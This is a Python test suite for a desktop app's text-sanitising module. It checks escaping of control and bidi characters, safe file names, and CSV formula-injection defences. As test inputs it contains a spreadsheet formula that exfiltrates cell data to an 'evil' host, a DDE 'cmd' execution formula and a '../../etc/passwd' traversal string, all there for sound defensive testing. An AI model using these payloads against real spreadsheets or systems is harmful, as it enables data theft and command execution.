"""Nothing in a text of a file acts where it is shown, printed or exported."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from diffviews_desktop.text import plain
from diffviews_desktop.text.plain import (
    csv_cell,
    csv_writer,
    elide,
    file_name,
    from_csv_cell,
    from_csv_column,
    steady,
    visible,
    visible_json,
)

any_text = st.text(st.characters(), max_size=50)  # lone surrogates, too
in_a_cell = st.text(st.characters(exclude_characters="\0"), max_size=50) | st.text(
    "';\t|\r\n=+-@＝%\"a,", max_size=12
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("dog, 7 σ, 日本語, 🐶, é", "dog, 7 σ, 日本語, 🐶, é"),
        ("\x1b[31mred", "\\x1b[31mred"),
        ("a\nb\tc", "a\\x0ab\\x09c"),
        ("0.2\u202e 5.0", "0.2\\u202e 5.0"),
        ("\udc80", "\\udc80"),
        ("\U000e0041", "\\U000e0041"),
        ("\x9b1m", "\\x9b1m"),
        ("\ufdd0", "\\ufdd0"),
        ("a" + "\u0301" * 7, "a" + "\u0301" * 5 + "\\u0301\\u0301"),
        ("\u200d" * 6, "\u200d" * 5 + "\\u200d"),
    ],
)
def test_letters_that_act_are_made_visible(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "👩\u200d👩\u200d👧\u200d👦 and 🏳\ufe0f\u200d🌈",  # joined, and with their colours
        "\U0001fae9\U0001cc00",  # of a later Unicode than Python's tables
        "क्\u200dष می\u200cخواهم",
        "Việt e\u0302\u0323 שָׁלוֹם",
        "ไทย 한국어 ქართული ኢትዮጵያ",
        "№ 5 · ½ – “σ”",
    ],
)
def test_letters_of_all_scripts_stay(text: str) -> None:
    assert visible(text) == text


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("3: cat   (20)", "3: cat   (20)"),
        ("cat שלום עולם   (20)", "cat שלום עולם|   (20)"),
        ("3: שלום עולם   (20)", "|3: שלום עולם|   (20)"),
        ("حدر 12 x", "|حدر| 12 x"),
        ("חדר 12 גדול 7", "|חדר 12 גדול| 7"),  # a number within words is theirs
        ("#5   שלום", "|#5   שלום"),
        ("אב\nx גד x\n7", "|אב\nx גד| x\n7"),
    ],
)
def test_numbers_after_words_that_run_to_the_left_stay_there(text: str, marked: str) -> None:
    assert steady(text) == marked.replace("|", "\u200e")


def test_a_name_is_no_path_and_not_too_long() -> None:
    assert file_name("../../etc/passwd") == "..-..-etc-passwd"
    assert file_name('a:b*?"<c>|d\x1b\n') == "a-b-c-d-x1b-x0a"
    assert len(file_name("x" * 10_000)) <= 60


def test_line_breaks_stay_where_lines_are_wanted() -> None:
    assert visible("a\nb\tc\r", lines=True) == "a\nb\tc\\x0d"


@given(any_text, st.integers(1, 60))
def test_what_is_shown_can_be_encoded_and_is_short(text: str, most: int) -> None:
    shown = visible(text, most)
    assert len(shown) <= most
    shown.encode()
    assert not {unicodedata.category(letter) for letter in shown} & {"Cc", "Cs", "Zl", "Zp"}
    bidi = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    assert not {unicodedata.bidirectional(letter) for letter in shown} & bidi


def test_a_long_text_keeps_its_beginning_and_its_end() -> None:
    assert elide("abcdefghij", 5) == "ab…ij"
    assert elide("abcdefghij", 10) == "abcdefghij"
    assert visible("x" * 10**7 + "\x1b", 9).endswith("x1b")


@given(any_text, st.sampled_from([None, 2]))
def test_json_says_all_letters_and_none_acts(text: str, indent: int | None) -> None:
    written = visible_json({"a": [text]}, indent)
    assert json.loads(written) == {"a": [text]}
    assert visible(written, lines=indent is not None) == written


@given(in_a_cell)
def test_a_cell_is_read_back_equal_and_is_no_formula(text: str) -> None:
    cell = csv_cell(text)
    assert from_csv_cell(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%"))


@given(in_a_cell)
def test_no_part_of_a_cell_is_a_formula(text: str) -> None:
    """Wherever a spreadsheet splits it, and whether or not it minds quotes there."""
    first, *others = re.split("[;\t|\r\n]", csv_cell(text))
    for part in (first, *(part.lstrip('"') for part in others)):
        assert not part.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "%"))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('b;=HYPERLINK("http://evil/?"&A1);x', "'b;'=HYPERLINK(\"http://evil/?\"&A1);x"),
        ("c\t=1+1", "'c\t'=1+1"),
        ("a|@x\r\n-1", "'a|'@x\r\n'-1"),
        ('a;"=1+1&"&A1', "'a;'\"=1+1&\"&A1"),
        ("=a;=b", "'=a;'=b"),
        ("it's; '=b'", "it's; '=b'"),
        ("a;'=b", "'a;''=b"),
        ("a; b\tc\n\nd", "a; b\tc\n\nd"),
    ],
)
def test_formulas_behind_a_separator_get_an_apostrophe(text: str, cell: str) -> None:
    assert csv_cell(text) == cell
    assert from_csv_cell(csv_cell(text)) == text


@given(in_a_cell)
def test_cells_of_older_files_are_read_as_before(text: str) -> None:
    """Of those only the beginning had an apostrophe."""
    older = f"'{text}" if plain._FORMULA.match(text) else text
    if not (older.startswith("'") and re.search("[;\t|\r\n]'", text)):
        assert from_csv_cell(older) == text


@given(st.lists(st.lists(in_a_cell, min_size=1), min_size=1), st.sampled_from(["\r\n", "\n"]))
def test_rows_are_read_by_others_as_they_were_written(rows: list[list[str]], end: str) -> None:
    file = io.StringIO(newline="")
    csv_writer(file, end).writerows(rows)
    file.seek(0)
    assert list(csv.reader(file)) == rows
    assert file.getvalue().endswith(end)


def test_cells_that_a_spreadsheet_would_split_are_in_quotes() -> None:
    file = io.StringIO(newline="")
    csv_writer(file).writerows([["a;b", "c\td", "e|f"], ["a b", 1.5, ""]])
    assert file.getvalue() == '"a;b","c\td","e|f"\r\na b,1.5,\r\n'


@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t1", "'=1"])
def test_formulas_get_an_apostrophe(formula: str) -> None:
    assert csv_cell(formula) == f"'{formula}"
    assert csv_cell("it's = fine") == "it's = fine"


def test_a_zero_byte_is_written_as_text() -> None:
    assert csv_cell("a\0b") == "a\\x00b"
    assert csv_cell("\0") == "\\x00"


@given(st.lists(in_a_cell))
def test_a_column_is_read_back_equal(texts: list[str]) -> None:
    assert list(from_csv_column(list(map(csv_cell, texts)))) == texts


@pytest.mark.parametrize("cells", [["'=x", "=x"], ["it's", "'tis"], ["-1.5", "2"], []])
def test_a_column_of_another_program_stays_as_it_is(cells: list[str]) -> None:
    assert list(from_csv_column(cells)) == cells


def test_letters_that_are_taken_for_harmless_stand_as_they_are() -> None:
    """Most texts are of these alone, and are not looked at letter by letter."""
    for letter in map(chr, range(0x3000)):
        quick = plain._PLAIN.fullmatch(letter) is not None
        assert not quick or "".join(plain._letters(letter, lines=False)) == letter
